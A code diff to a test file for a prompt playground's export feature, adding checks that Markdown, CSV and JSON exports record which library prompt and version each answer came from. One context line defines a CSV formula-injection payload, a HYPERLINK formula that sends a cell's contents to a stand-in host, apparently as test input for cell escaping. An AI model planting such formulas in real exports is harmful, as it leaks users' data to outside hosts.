@@ -1,9 +1,11 @@
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
+import { sentOf } from "@/lib/playground/asked";
 import { type PlaygroundDocument, playgroundDocument } from "@/lib/playground/document";
 import { csvCell } from "@/lib/playground/export/csv-cell";
 import { exportFile, fileNameOf } from "@/lib/playground/export/export-file";
 import { answer, documentWith } from "./documents";
+import { loaded, triage } from "./library";
 
 const at = new Date("2026-11-21T09:11:00Z");
 const hostile = '=HYPERLINK("http://evil.example?"&A1,"x")';
@@ -169,5 +171,45 @@ describe("the name of a file", () => {
     ["a".repeat(300), `${"a".repeat(80)}.csv`],
   ])("%s becomes %s", (title, name) => {
     expect(fileNameOf(title, "csv")).toBe(name);
+  });
+});
+
+describe("a comparison that prompts of the library asked", () => {
+  const asked = sentOf(loaded(triage), { ticket: "T-1" }, []);
+  const answered = { ...answer, prompt: asked.prompt };
+  const compared = documentWith({
+    system: "Sent to nobody.",
+    prompt: loaded(triage, { version: 4 }),
+    columns: [
+      { id: "a", model: "pebble-2m", engine: "server", parameters: {}, prompt: loaded(triage) },
+      { id: "b", model: "pebble-2m", engine: "server", parameters: {} },
+    ],
+    turns: [{ id: "t1", parent: null, user: "Ticket: T-1", asked: { a: asked }, answers: { a: [answered] } }],
+  });
+
+  it("names prompt and version in Markdown, with what was asked", () => {
+    const { text } = exportFile("markdown", "x", compared, at);
+    expect(text).toContain('| A | `pebble-2m` | server | `{"temperature":0.4}` | `main.support.triage v3` |');
+    expect(text).toContain("| `main.support.triage v4` |");
+    expect(text).toContain(
+      "**A is asked by** `main.support.triage v3`\n\n**system**\n\n> Sort tickets. Be kind.",
+    );
+    expect(text).toContain("asked by main.support.triage v3");
+    expect(text).not.toContain("Sent to nobody.");
+  });
+
+  it("names them in CSV beside each answer, and in JSON as they are", () => {
+    const { data } = Papa.parse<Record<string, string>>(exportFile("csv", "x", compared, at).text, {
+      header: true,
+    });
+    expect(data[0]).toMatchObject({
+      prompt: "main.support.triage",
+      prompt_version: "3",
+      prompt_edited: "no",
+      system: "Sort tickets. Be kind.",
+      user: "Ticket: T-1",
+    });
+    const envelope = JSON.parse(exportFile("json", "x", compared, at).text) as { document: unknown };
+    expect(playgroundDocument.parse(envelope.document)).toEqual(compared);
   });
 });
